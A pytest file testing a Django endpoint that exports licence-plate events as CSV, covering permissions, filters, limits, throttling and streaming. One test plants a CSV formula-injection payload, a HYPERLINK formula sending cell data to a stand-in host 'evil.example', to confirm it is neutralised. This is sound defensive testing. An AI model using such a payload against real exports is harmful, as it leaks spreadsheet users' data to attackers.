"""GET /api/events/?format=csv: the list's filters, the one representation's columns, cells a
spreadsheet would run as formulas made inert, streamed, bounded, for viewers and up only."""

import csv
import io
import zlib
from datetime import UTC, datetime, timedelta

import pytest
from asgiref.sync import async_to_sync
from django.test import AsyncClient

from cameras.tests.factories import CameraFactory
from events import csv_export
from events.representation import plate_event_document_keys

from .factories import PlateEventFactory

URL = "/api/events/"
T0 = datetime(2026, 11, 20, 12, 0, tzinfo=UTC)

pytestmark = pytest.mark.django_db


def _rows(response) -> list[dict]:
    assert response.status_code == 200, response.content
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(body)))


def test_viewers_export_anonymous_and_devices_are_refused(
    viewer_client, operator_client, api_client, device_client
):
    PlateEventFactory(plate_raw="AB12CDE")
    response = viewer_client.get(URL, {"format": "csv"})
    assert response.streaming  # sent as it is read, not built whole first
    assert response["Content-Disposition"].startswith('attachment; filename="plate-events-')
    assert response["Content-Disposition"].endswith('.csv"')
    assert response["Cache-Control"] == "no-store"
    assert [row["plate"] for row in _rows(response)] == ["AB12CDE"]
    assert [row["plate"] for row in _rows(operator_client.get(URL, {"format": "csv"}))] == [
        "AB12CDE"
    ]
    by_accept = viewer_client.get(URL, HTTP_ACCEPT="text/csv")  # content negotiation too
    assert [row["plate"] for row in _rows(by_accept)] == ["AB12CDE"]
    anonymous = api_client.get(URL, {"format": "csv"})
    assert anonymous.status_code == 401
    assert anonymous["Content-Type"] == "application/json"
    device = device_client.get(URL, {"format": "csv"})
    assert device.status_code == 403 and b"AB12CDE" not in device.content


def test_columns_are_the_event_representation_with_absolute_image_links(viewer_client):
    camera = CameraFactory(slug="north", name="North gate")
    with_crop = PlateEventFactory(
        camera=camera, plate_raw="AB12CDE", plate_image="events/x/1-plate.jpg", captured_at=T0
    )
    PlateEventFactory(camera=camera, plate_raw="ZZ99ZZZ", captured_at=T0 - timedelta(hours=1))
    as_json = viewer_client.get(URL).json()["results"]
    rows = _rows(viewer_client.get(URL, {"format": "csv"}))
    assert tuple(rows[0]) == plate_event_document_keys() == tuple(as_json[0])
    first, second = rows  # newest first, as the list
    assert first["id"] == str(with_crop.id) and first["camera_slug"] == "north"
    assert first["camera_name"] == "North gate" and first["zone_name"] == ""
    assert first["captured_at"] == as_json[0]["captured_at"] == "2026-11-20T12:00:00Z"
    assert first["plate_image_url"] == (
        f"http://testserver/api/events/{with_crop.id}/images/plate/"
    )
    assert first["plate_image_url"] == as_json[0]["plate_image_url"]
    assert first["frame_image_url"] == "" and second["plate_image_url"] == ""
    assert float(first["confidence"]) == 0.9
    assert second["plate"] == "ZZ99ZZZ"
    oldest_first = _rows(viewer_client.get(URL, {"format": "csv", "ordering": "captured_at"}))
    assert [row["plate"] for row in oldest_first] == ["ZZ99ZZZ", "AB12CDE"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_a_spreadsheet_would_run_as_a_formula_gets_an_apostrophe(viewer_client, start):
    payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"open")'
    PlateEventFactory(
        plate_raw="AB12CDE", vehicle_make=payload, metadata={"note": "=1+1"}, country="NL"
    )
    row = _rows(viewer_client.get(URL, {"format": "csv"}))[0]
    assert row["vehicle_make"] == "'" + payload
    assert row["metadata"] == '{"note":"=1+1"}'  # JSON starts with {: not a formula
    assert row["country"] == "NL" and row["plate"] == "AB12CDE"


def test_cell_escaping_leaves_plain_values_alone():
    assert csv_export.csv_cell(None) == ""
    assert csv_export.csv_cell(0.93) == 0.93 and csv_export.csv_cell(7) == 7
    assert csv_export.csv_cell(True) == "true"
    assert csv_export.csv_cell("AB-12") == "AB-12"
    assert csv_export.csv_cell("-12") == "'-12"


def test_every_filter_of_the_list_applies_including_the_ocr_tolerant_search(viewer_client):
    north, south = CameraFactory(slug="north"), CameraFactory(slug="south")
    PlateEventFactory(camera=north, plate_raw="1XBX88", confidence=0.95, captured_at=T0)
    PlateEventFactory(camera=north, plate_raw="1XBX88", confidence=0.4, captured_at=T0)
    PlateEventFactory(camera=south, plate_raw="1XBX88", confidence=0.95, captured_at=T0)
    PlateEventFactory(camera=north, plate_raw="QQ77QQQ", confidence=0.95, captured_at=T0)
    PlateEventFactory(
        camera=north, plate_raw="1XBX88", confidence=0.95, captured_at=T0 - timedelta(days=3)
    )
    query = {
        "format": "csv",
        "q": "IXBX88",
        "camera": "north",
        "min_confidence": "0.9",
        "since": (T0 - timedelta(hours=1)).isoformat(),
    }
    rows = _rows(viewer_client.get(URL, query))
    assert [(row["plate"], row["camera_slug"]) for row in rows] == [("1XBX88", "north")]
    json_ids = [
        e["id"] for e in viewer_client.get(URL, {**query, "format": "json"}).json()["results"]
    ]
    assert [row["id"] for row in rows] == json_ids
    assert len(_rows(viewer_client.get(URL, {"format": "csv", "q": "IXBX88"}))) == 4


def test_more_rows_than_the_limit_are_refused_naming_it(viewer_client, settings):
    settings.CSV_EXPORT_MAX_ROWS = 3
    for _ in range(3):
        PlateEventFactory(plate_raw="AB12CDE")
    assert len(_rows(viewer_client.get(URL, {"format": "csv"}))) == 3  # at the limit: all
    PlateEventFactory(plate_raw="ZZ12ZZZ")
    refused = viewer_client.get(URL, {"format": "csv"})
    assert refused.status_code == 400
    assert refused["Content-Type"] == "application/json"
    message = refused.json()["errors"]["format"][0]
    assert "at most 3" in message and "CSV_EXPORT_MAX_ROWS" in message
    # Narrowed below the limit, it is exported.
    assert len(_rows(viewer_client.get(URL, {"format": "csv", "plate": "ZZ12ZZZ"}))) == 1


def test_exports_per_user_are_rate_limited_and_the_list_is_not(
    viewer_client, operator_client, settings
):
    from django.core.cache import cache

    cache.clear()
    settings.CSV_EXPORT_THROTTLE_RATE = "2/min"
    PlateEventFactory(plate_raw="AB12CDE")
    for _ in range(2):
        assert len(_rows(viewer_client.get(URL, {"format": "csv"}))) == 1
    refused = viewer_client.get(URL, {"format": "csv"})
    assert refused.status_code == 429 and int(refused["Retry-After"]) > 0
    assert refused["Content-Type"] == "application/json"
    assert viewer_client.get(URL).status_code == 200  # a page of the list is not an export
    assert len(_rows(operator_client.get(URL, {"format": "csv"}))) == 1  # per user


def test_rows_are_read_and_sent_in_chunks(viewer_client, monkeypatch):
    monkeypatch.setattr(csv_export, "CHUNK_ROWS", 2)
    for n in range(5):
        PlateEventFactory(plate_raw=f"AB{n}CDE")
    response = viewer_client.get(URL, {"format": "csv"})
    chunks = list(response.streaming_content)
    assert len(chunks) == 4  # the header, then 2 + 2 + 1 events
    assert sum(chunk.count(b"\r\n") for chunk in chunks) == 6


@pytest.mark.parametrize("encoding", ["", "gzip, deflate, br, zstd"])
def test_under_asgi_the_body_is_an_async_stream_gzipped_as_one(viewer, monkeypatch, encoding):
    """Browsers read a gzip body only to the end of its first member: Django's GZipMiddleware
    would make one per chunk, and the export would end after its header line."""
    monkeypatch.setattr(csv_export, "CHUNK_ROWS", 1)
    for plate in ("AB12CDE", "ZZ99ZZZ"):
        PlateEventFactory(plate_raw=plate)
    client = AsyncClient()
    client.force_login(viewer)
    get = async_to_sync(client.get)
    response = get(URL, {"format": "csv"}, headers={"Accept-Encoding": encoding})
    assert response.status_code == 200 and response.is_async
    assert "Accept-Encoding" in response["Vary"]

    async def read():
        return [chunk async for chunk in response.streaming_content]

    chunks = async_to_sync(read)()
    assert len(chunks) >= 3  # the header and each event as they are read
    body = b"".join(chunks)
    if encoding:
        assert response["Content-Encoding"] == "gzip"
        reader = zlib.decompressobj(31)  # one gzip member, as a browser reads it
        body = reader.decompress(body)
        assert reader.eof and reader.unused_data == b""
    else:
        assert not response.has_header("Content-Encoding")
    assert b"AB12CDE" in body and b"ZZ99ZZZ" in body


def test_bad_filters_and_formats_are_4xx_json_and_json_still_works(viewer_client):
    PlateEventFactory(plate_raw="AB12CDE")
    bad = viewer_client.get(URL, {"format": "csv", "since": "yesterday"})
    assert bad.status_code == 400 and "since" in bad.json()["errors"]
    bad_order = viewer_client.get(URL, {"format": "csv", "ordering": "plate"})
    assert bad_order.status_code == 400 and "ordering" in bad_order.json()["errors"]
    unknown = viewer_client.get(URL, {"format": "xlsx"})
    assert unknown.status_code == 404 and unknown["Content-Type"] == "application/json"
    as_json = viewer_client.get(URL, {"format": "json"})
    assert as_json.status_code == 200 and as_json.json()["results"][0]["plate"] == "AB12CDE"
    # One event is not exported: only the list offers CSV.
    event_id = as_json.json()["results"][0]["id"]
    assert viewer_client.get(f"{URL}{event_id}/", {"format": "csv"}).status_code == 404


def test_the_schema_declares_the_format_and_the_csv_answer(admin_user):
    from rest_framework.test import APIClient

    client = APIClient()
    client.force_authenticate(admin_user)
    schema = client.get("/api/schema/", {"format": "json"}).json()
    operation = schema["paths"]["/api/events/"]["get"]
    formats = [p for p in operation["parameters"] if p["name"] == "format"]
    assert formats and formats[0]["schema"]["enum"] == ["csv", "json"]
    content = operation["responses"]["200"]["content"]
    assert set(content) >= {"application/json", "text/csv"}
    assert content["application/json"]["schema"]["$ref"].endswith("/PaginatedPlateEventList")
    assert content["text/csv"]["schema"] == {"type": "string"}
